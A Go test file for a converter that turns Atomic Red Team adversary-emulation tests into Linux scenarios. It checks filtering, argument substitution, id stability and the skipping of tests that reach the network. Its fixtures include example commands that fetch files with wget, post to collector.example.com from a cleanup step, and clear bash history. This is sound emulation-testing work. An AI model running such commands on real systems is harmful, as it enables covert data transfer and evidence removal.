package atomics

import (
	"reflect"
	"strings"
	"testing"
)

func parse(t *testing.T, src string) *Technique {
	t.Helper()
	tech, _, err := Parse("T/T.yaml", []byte(src))
	if err != nil {
		t.Fatal(err)
	}
	return tech
}

// test is one atomic test in the atomics format, for the tables below.
func test(name, platforms, executor, body string) string {
	return "- name: " + name + "\n  auto_generated_guid: guid-" + slug(name) + "\n  supported_platforms: [" + platforms + "]\n" + body +
		"  executor:\n    name: " + executor + "\n"
}

func technique(id string, tests ...string) string {
	return "attack_technique: " + id + "\ndisplay_name: d\natomic_tests:\n" + strings.Join(tests, "")
}

// TestConvertFilters: only linux tests with sh or bash become scenarios;
// every other one is listed with the reason.
func TestConvertFilters(t *testing.T) {
	cmd := "    command: |\n      id\n"
	src := technique("T1082",
		test("on linux", "linux, macos", "sh", "")+cmd,
		test("windows", "windows", "powershell", "")+cmd,
		test("mac", "macos", "sh", "")+cmd,
		test("no platforms", "", "sh", "")+cmd,
		test("cmd", "linux", "command_prompt", "")+cmd,
		test("by hand", "linux", "manual", "")+"    steps: do it\n",
		test("cloud", "linux", "aws", "")+cmd,
		test("empty", "linux", "bash", "")+"    command: ''\n",
		test("deps in powershell", "linux", "sh", "  dependency_executor_name: powershell\n  dependencies:\n  - description: x\n    prereq_command: exit 0\n")+cmd,
		test("dep without check", "linux", "sh", "  dependencies:\n  - description: x\n    get_prereq_command: echo get\n")+cmd,
	)
	c := Convert(parse(t, src), Options{}, nil)
	if len(c.Scenarios) != 1 || c.Scenarios[0].ID != "art-t1082-1-on-linux" {
		t.Fatalf("scenarios %+v, want the linux sh test alone", c.Scenarios)
	}
	var got []string
	for _, u := range c.Unsupported {
		got = append(got, u.Test.Label()+": "+u.Reason)
	}
	want := []string{
		`atomic test 2 "windows": supported_platforms windows: not linux`,
		`atomic test 3 "mac": supported_platforms macos: not linux`,
		`atomic test 4 "no platforms": no supported_platforms: the victim is Linux`,
		`atomic test 5 "cmd": executor command_prompt runs on Windows; the victim runs sh and bash`,
		`atomic test 6 "by hand": executor manual: its steps are instructions for a person, not commands`,
		`atomic test 7 "cloud": executor aws: the victim runs sh and bash only`,
		`atomic test 8 "empty": the executor has no command`,
		`atomic test 9 "deps in powershell": dependency_executor_name powershell runs on Windows; the victim runs sh and bash`,
		`atomic test 10 "dep without check": dependency 1 has no prereq_command to check it`,
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("unsupported\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

// TestConvertSubstitutes: #{name} takes the default everywhere; an argument
// without a default, an undefined one or a path into the atomics folder
// keeps the test out.
func TestConvertSubstitutes(t *testing.T) {
	inputs := "  input_arguments:\n    file: {type: path, default: /tmp/x y}\n    n: {type: integer, default: 3}\n    free: {type: string}\n    payload: {type: path, default: PathToAtomicsFolder/T1082/src/a.sh}\n"
	src := technique("T1082",
		test("all", "linux", "sh", inputs+"  dependencies:\n  - description: d\n    prereq_command: |\n      test -e '#{file}'\n    get_prereq_command: |\n      touch '#{file}'\n")+
			"    command: |\n      head -n #{n} '#{file}' #{n}\n    cleanup_command: |\n      rm -f '#{file}'\n",
		test("no default", "linux", "sh", inputs)+"    command: |\n      echo #{free}\n",
		test("undefined", "linux", "sh", inputs)+"    command: |\n      id\n    cleanup_command: |\n      rm #{missing}\n",
		test("atomics folder", "linux", "sh", inputs)+"    command: |\n      sh #{payload}\n",
		test("atomics folder in text", "linux", "sh", "")+"    command: |\n      cp $PathToAtomicsFolder/T1082/bin/x /tmp\n",
	)
	c := Convert(parse(t, src), Options{}, nil)
	if len(c.Scenarios) != 1 {
		t.Fatalf("%d scenarios, want 1", len(c.Scenarios))
	}
	s := c.Scenarios[0]
	if got := s.Steps[0].Run; got != "head -n 3 '/tmp/x y' 3" {
		t.Errorf("command %q", got)
	}
	if got := s.Cleanup[0].Run; got != "rm -f '/tmp/x y'" {
		t.Errorf("cleanup %q", got)
	}
	if setup := s.Setup[0].Run; !strings.Contains(setup, "test -e '/tmp/x y'") || !strings.Contains(setup, "touch '/tmp/x y'") {
		t.Errorf("setup does not hold the substituted dependency:\n%s", setup)
	}
	var got []string
	for _, u := range c.Unsupported {
		got = append(got, u.Reason)
	}
	want := []string{
		`command uses input argument "free", which has no default`,
		"cleanup_command uses #{missing}, which input_arguments does not define",
		"command needs PathToAtomicsFolder/T1082/src/a.sh from an Atomic Red Team checkout, which the victim does not hold",
		"command needs $PathToAtomicsFolder/T1082/bin/x from an Atomic Red Team checkout, which the victim does not hold",
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("unsupported\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

// TestConvertSteps: sh runs through run:, bash through exec [bash, -c];
// dependencies follow dependency_executor_name, else the executor.
func TestConvertSteps(t *testing.T) {
	dep := "  dependencies:\n  - description: |\n      it's there\n      (second line)\n    prereq_command: |\n      exit 0\n"
	src := technique("T1082",
		test("sh", "linux", "sh", dep)+"    command: |\n      uname -a\n    cleanup_command: |\n      true\n",
		test("bash", "linux", "bash", dep)+"    command: |\n      uname -a\n",
		test("bash deps in sh", "linux", "bash", "  dependency_executor_name: sh\n"+dep)+"    command: uname\n",
	)
	c := Convert(parse(t, src), Options{}, nil)
	if len(c.Scenarios) != 3 {
		t.Fatalf("scenarios %+v, unsupported %+v", c.Scenarios, c.Unsupported)
	}
	sh, bash, mixed := c.Scenarios[0], c.Scenarios[1], c.Scenarios[2]
	if !reflect.DeepEqual(sh.Steps, []Step{{Run: "uname -a"}}) || !reflect.DeepEqual(sh.Cleanup, []Step{{Run: "true"}}) || sh.Setup[0].Run == "" {
		t.Errorf("sh: %+v", sh)
	}
	if !reflect.DeepEqual(bash.Steps, []Step{{Exec: []string{"bash", "-c", "uname -a"}}}) || len(bash.Setup[0].Exec) != 3 || bash.Cleanup != nil {
		t.Errorf("bash: %+v", bash)
	}
	if mixed.Setup[0].Run == "" || mixed.Steps[0].Exec == nil {
		t.Errorf("bash with sh dependencies: %+v", mixed)
	}
	script := sh.Setup[0].Run
	for _, want := range []string{"# prerequisite 1: it's there\n", "prereq() (\nexit 0\n)\n", `'it'\''s there'`} {
		if !strings.Contains(script, want) {
			t.Errorf("setup script lacks %q:\n%s", want, script)
		}
	}
	if strings.Contains(script, "get_prereq") {
		t.Errorf("a dependency without get_prereq_command gets none:\n%s", script)
	}
}

// TestConvertNetwork: a test that reaches the network anywhere (command,
// dependency, cleanup) is skipped with where and what, unless allowed.
func TestConvertNetwork(t *testing.T) {
	src := technique("T1105",
		test("fetch", "linux", "sh", "  input_arguments:\n    url: {default: 'https://tools.example.net/a'}\n")+"    command: |\n      wget -q #{url}\n",
		test("install first", "linux", "sh", "  dependencies:\n  - description: gcc\n    prereq_command: command -v gcc\n    get_prereq_command: apt-get install -y gcc\n")+"    command: gcc --version\n",
		test("report home", "linux", "sh", "")+"    command: id\n    cleanup_command: |\n      curl -d done http://collector.example.com/\n",
		test("local", "linux", "sh", "")+"    command: |\n      curl -s http://127.0.0.1:1/ || true\n",
	)
	c := Convert(parse(t, src), Options{}, nil)
	var got []string
	for _, s := range c.Scenarios {
		got = append(got, s.Skip)
	}
	want := []string{
		"reaches the network (command: a URL on tools.example.net); re-import with --allow-network",
		"reaches the network (get_prereq_command of dependency 1: apt-get install); re-import with --allow-network",
		"reaches the network (cleanup_command: a URL on collector.example.com); re-import with --allow-network",
		"",
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("skips\n%q\nwant\n%q", got, want)
	}
	for _, s := range Convert(parse(t, src), Options{AllowNetwork: true}, nil).Scenarios {
		if s.Skip != "" {
			t.Errorf("--allow-network: %s still skipped: %s", s.ID, s.Skip)
		}
	}
}

// TestConvertTechniqueIDs: a renumbered id becomes its successor (and the
// successor's first tactic); an unknown one keeps every test out.
func TestConvertTechniqueIDs(t *testing.T) {
	one := test("a", "linux", "sh", "") + "    command: id\n"
	c := Convert(parse(t, technique("T1070.002", one)), Options{}, nil)
	if c.Technique != "T1685.006" || c.Tactic != "defense-impairment" || c.Scenarios[0].ID != "art-t1070-002-1-a" {
		t.Errorf("renumbered: %s %s %+v", c.Technique, c.Tactic, c.Scenarios)
	}
	c = Convert(parse(t, technique("T1053.003", one)), Options{}, nil)
	if c.Technique != "T1053.003" || c.Tactic != "execution" {
		t.Errorf("several tactics: %s %s, want the first in kill-chain order", c.Technique, c.Tactic)
	}
	c = Convert(parse(t, technique("T9999", one)), Options{}, nil)
	if len(c.Scenarios) != 0 || len(c.Unsupported) != 1 || !strings.HasPrefix(c.Unsupported[0].Reason, "technique T9999: technique T9999 is not in ATT&CK as of ") {
		t.Errorf("unknown technique: %+v", c)
	}
}

// TestConvertIDs: ids are art-<technique>-<n>-<slug>; a test imported
// before keeps its id by guid when tests are inserted upstream, and a new
// test whose positional id is taken gets its guid's first block.
func TestConvertIDs(t *testing.T) {
	cmd := "    command: id\n"
	first := "- name: Clear the bash history (rm -f ~/.bash_history) and everything else there is\n  auto_generated_guid: aaaa1111-0000-4000-8000-000000000001\n  supported_platforms: [linux]\n  executor:\n    name: sh\n" + cmd
	second := "- name: Truncate\n  auto_generated_guid: bbbb2222-0000-4000-8000-000000000002\n  supported_platforms: [linux]\n  executor:\n    name: sh\n" + cmd
	c := Convert(parse(t, technique("T1070.003", first, second)), Options{}, nil)
	ids := []string{c.Scenarios[0].ID, c.Scenarios[1].ID}
	want := []string{"art-t1070-003-1-clear-the-bash-history-rm-f-bash-history-and", "art-t1070-003-2-truncate"}
	if !reflect.DeepEqual(ids, want) {
		t.Fatalf("ids %q, want %q", ids, want)
	}

	// Upstream inserts a test with the same name before them.
	inserted := strings.Replace(second, "bbbb2222", "cccc3333", 1)
	prior := map[string]string{"aaaa1111-0000-4000-8000-000000000001": want[0], "bbbb2222-0000-4000-8000-000000000002": want[1]}
	c = Convert(parse(t, technique("T1070.003", inserted, first, second)), Options{}, prior)
	ids = []string{c.Scenarios[0].ID, c.Scenarios[1].ID, c.Scenarios[2].ID}
	want = []string{"art-t1070-003-1-truncate", want[0], want[1]}
	if !reflect.DeepEqual(ids, want) {
		t.Errorf("after an insert: ids %q, want %q", ids, want)
	}
	prior = map[string]string{"bbbb2222-0000-4000-8000-000000000002": "art-t1070-003-1-truncate"}
	c = Convert(parse(t, technique("T1070.003", inserted, second)), Options{}, prior)
	if got := c.Scenarios[0].ID; got != "art-t1070-003-1-truncate-cccc3333" {
		t.Errorf("positional id taken: %q", got)
	}
}
